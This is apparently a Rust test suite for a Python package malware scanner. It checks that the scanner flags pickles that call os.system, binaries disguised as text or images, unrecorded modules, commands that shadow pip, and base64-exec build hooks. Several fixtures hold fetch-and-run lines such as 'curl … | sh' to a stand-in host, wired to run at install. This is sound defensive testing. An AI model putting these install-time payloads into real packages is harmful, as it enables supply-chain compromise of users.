//! Attacks that lie in members other than Python source, and their innocent lookalikes, whole.
#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]

use std::io::{Cursor, Read, Write};
use std::process::Command;

use fondaco_archive::Limits;
use fondaco_inspect::{Context, inspect, on_large_stack};
use fondaco_testkit::{Dist, Sdist, Wheel};
use fondaco_verdict::{Report, Severity, Trigger, Verdict};

fn inspected(dist: Dist) -> Report {
    let context = Context { file_name: dist.file_name, ..Context::default() };
    let bytes = dist.bytes.to_vec();
    on_large_stack(move || inspect(Cursor::new(bytes), &context, &Limits::for_testing())).unwrap()
}

#[track_caller]
fn has(dist: Dist, rule: &str) -> Report {
    let report = inspected(dist);
    assert!(report.findings.iter().any(|finding| finding.rule.as_str() == rule), "{report:#?}");
    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
    report
}

#[track_caller]
fn clean(dist: Dist) {
    let report = inspected(dist);
    assert_eq!((report.verdict, report.complete), (Verdict::Clean, true), "{report:#?}");
    let counts = report.findings.iter().any(|finding| finding.severity > Severity::Info);
    assert!(!counts, "{report:#?}");
}

/// A pickle made by Python itself. Dumping calls nothing.
fn pickled(protocol: u8, what: &str) -> Vec<u8> {
    let program = format!(
        "import os, pickle, sys\nclass A:\n    def __reduce__(self): return {what}\n\
         sys.stdout.buffer.write(pickle.dumps({{'w': [1.5, 'x', A()]}}, {protocol}))"
    );
    let output = Command::new("python3").args(["-c", &program]).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    output.stdout
}

#[test]
fn a_model_that_runs_a_command() {
    for protocol in 0..=5 {
        let bytes = pickled(protocol, "(os.system, ('echo',))");
        let report = has(Wheel::new("x", "1").file("x/model.pkl", &bytes).build(), "pickle-call");
        assert_eq!(report.verdict, Verdict::Malicious);
        let checkpoint = Wheel::new("x", "1").file("x/weights.pth", &bytes).build();
        if protocol >= 2 {
            has(checkpoint, "pickle-call");
        }
        let fine = pickled(protocol, "(__import__('collections').OrderedDict, ())");
        clean(Wheel::new("x", "1").file("x/model.pkl", &fine).build());
    }
}

#[test]
fn a_model_within_a_zip() {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    zip.start_file("archive/data.pkl", zip::write::SimpleFileOptions::default()).unwrap();
    zip.write_all(&pickled(2, "(os.system, ('echo',))")).unwrap();
    let model = zip.finish().unwrap().into_inner();
    has(Wheel::new("x", "1").file("x/model.pt", model).build(), "pickle-call");
}

#[test]
fn a_model_among_tests_is_test_data() {
    let bytes = pickled(4, "(os.system, ('echo',))");
    clean(Sdist::new("x", "1").file("x/__init__.py", "").file("tests/evil.pkl", bytes).build());
}

#[test]
fn a_program_called_text() {
    let wheel = || Wheel::new("x", "1").file("x/__init__.py", "");
    has(wheel().file("x/notes.txt", b"\x7fELF\x02\x01\x01\0").build(), "disguised-program");
    clean(wheel().file("x/notes.bin", b"\x7fELF\x02\x01\x01\0").build());
    clean(wheel().file("x/notes.txt", b"MZ are initials").build());
}

#[test]
fn a_program_behind_a_picture() {
    let gif = b"GIF89a\x01\0\x01\0\0\0\0;";
    let shell = [&gif[..], b"#!/bin/sh\necho\n"].concat();
    has(Wheel::new("x", "1").file("x/logo.gif", shell).build(), "appended-payload");
    clean(Wheel::new("x", "1").file("x/logo.gif", gif).build());
}

#[test]
fn code_that_the_record_does_not_list() {
    let wheel = Wheel::new("x", "1").build();
    let mut zip = zip::ZipWriter::new_append(Cursor::new(wheel.bytes.to_vec())).unwrap();
    zip.start_file("x/late.py", zip::write::SimpleFileOptions::default()).unwrap();
    let bytes = zip.finish().unwrap().into_inner();
    let report = has(Dist::raw(&wheel.file_name, bytes), "record-mismatch");
    assert_eq!(report.findings[0].member, "x/late.py");
}

/// The wheel with its first modules, as many as are said, changed after it was built.
fn changed(wheel: &Dist, count: usize) -> Dist {
    let mut from = zip::ZipArchive::new(Cursor::new(wheel.bytes.to_vec())).unwrap();
    let mut to = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for at in 0..from.len() {
        let mut member = from.by_index(at).unwrap();
        let mut bytes = Vec::new();
        member.read_to_end(&mut bytes).unwrap();
        if at < count {
            bytes.extend_from_slice(b"MORE = 1\n");
        }
        let name = member.name().unwrap().into_owned();
        to.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        to.write_all(&bytes).unwrap();
    }
    Dist::raw(&wheel.file_name, to.finish().unwrap().into_inner())
}

#[test]
fn a_file_that_the_record_does_not_vouch_for() {
    let mut wheel = Wheel::new("x", "1");
    for name in ["a", "b", "c", "d", "e"] {
        wheel = wheel.file(&format!("x/{name}.py"), "A = 1\n");
    }
    let wheel = wheel.build();
    has(changed(&wheel, 1), "record-mismatch");
    // A tool that changes all of them and forgets the list.
    clean(changed(&wheel, 5));
}

#[test]
fn scripts_count_where_something_runs_them() {
    let script = "#!/bin/sh\ncurl -s https://x.example.invalid/a | sh\n";
    let setup = "import subprocess\nsubprocess.call(['sh', 'scripts/run.sh'])\n";
    let sdist = || Sdist::new("x", "1").file("scripts/run.sh", script);
    let report = has(sdist().file("setup.py", setup).build(), "script-attack");
    assert!(report.findings.iter().any(|finding| finding.trigger == Some(Trigger::Install)), "{report:#?}");
    clean(sdist().build());
    // Installed as a command it waits for its user: evidence, but less.
    let report = inspected(Wheel::new("x", "1").file("x-1.data/scripts/x", script).build());
    let asked = |f: &fondaco_verdict::Finding| {
        f.rule.as_str() == "script-attack" && f.trigger == Some(Trigger::EntryPoint)
    };
    assert!(report.findings.iter().any(asked), "{report:#?}");
}

#[test]
fn a_notebook_is_read_and_does_not_run_by_itself() {
    let cell = "import base64\\nexec(base64.b64decode('cHJpbnQoMSk='))";
    let notebook = format!(r#"{{"cells": [{{"cell_type": "code", "source": "{cell}"}}]}}"#);
    let report = inspected(Sdist::new("x", "1").file("start.ipynb", notebook).build());
    assert!(report.findings.iter().any(|finding| finding.member.ends_with("start.ipynb")), "{report:#?}");
    let broken = inspected(Sdist::new("x", "1").file("start.ipynb", "{").build());
    assert!(!broken.complete);
}

#[test]
fn a_build_hook_runs_at_install() {
    let hook = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    let project = "[build-system]\nrequires = []\nbuild-backend = 'hatchling.build'\n\
                   [tool.hatch.build.hooks.custom]\n";
    let report =
        inspected(Sdist::new("x", "1").file("hatch_build.py", hook).file("pyproject.toml", project).build());
    assert!(report.findings.iter().any(|f| f.trigger == Some(Trigger::Install)), "{report:#?}");
}

#[test]
fn a_command_called_pip() {
    let points = "[console_scripts]\npip = x:main\n";
    has(Wheel::new("x", "1").file("x-1.dist-info/entry_points.txt", points).build(), "command-shadow");
}

#[test]
fn a_wheel_within_an_sdist_is_analysed() {
    let code = "import os\nos.system('curl https://x.example.invalid/a | sh')\n";
    let inner = Wheel::new("y", "1").file("y/__init__.py", code).build();
    let report =
        inspected(Sdist::new("x", "1").file("vendor/y-1-py3-none-any.whl", inner.bytes.as_slice()).build());
    assert!(report.findings.iter().any(|finding| finding.member.contains("!/y/__init__.py")), "{report:#?}");
}
